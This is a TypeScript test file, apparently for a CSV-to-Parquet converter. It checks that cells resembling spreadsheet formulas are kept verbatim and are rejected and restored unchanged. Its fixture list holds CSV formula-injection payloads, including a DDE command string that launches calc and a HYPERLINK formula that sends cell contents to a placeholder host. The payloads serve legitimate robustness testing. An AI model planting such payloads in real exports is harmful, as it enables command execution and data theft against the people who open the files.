// Cells that a spreadsheet would take for formulas. They are data: what stands in the file stands in the Parquet and in the file of rejected
// rows, which is made to be corrected and dropped again. Reports are JSON, which no spreadsheet evaluates.

import type { Column } from '../../src/schema/dataset.ts'
import { hyparquet } from '../interop/readers/hyparquet.ts'
import { convertBytes } from './convert-bytes.ts'

const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://x/?"&A1,"x")', "=cmd|' /C calc'!A0", "'=1+1"]
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`
const columns: Column[] = [
  { name: 'id', type: { name: 'int' }, nullable: false, source: 'id' },
  { name: 'note', type: { name: 'string' }, nullable: true, source: 'note' },
]
const rows = (id: (row: number) => string) => formulas.map((formula, row) => `${id(row)},${quoted(formula)}\n`).join('')

it('S9: are kept as they are', async () => {
  const { files } = await convertBytes(`id,note\n${rows(String)}`, { columns })
  expect((await hyparquet.read(files.get('')!)).rows.map(([, note]) => note)).toEqual(formulas)
})

it('S9: are rejected as they were, and come back unchanged once their row is corrected', async () => {
  const bad = `id,note\n${rows(row => `=${row}`)}`
  const { rejectedRows, rejectReasons } = await convertBytes(bad, { columns, onBadRow: 'reject' })
  expect(rejectedRows).toBe(bad)
  const reasons = rejectReasons.trim().split('\n')
  expect(reasons.map(line => JSON.parse(line).value)).toEqual(formulas.map((_, row) => `=${row}`))
  const { files } = await convertBytes(rejectedRows.replaceAll(/^=(?=\d,)/gm, ''), { columns })
  expect((await hyparquet.read(files.get('')!)).rows).toEqual(formulas.map((formula, row) => [String(row), formula]))
})
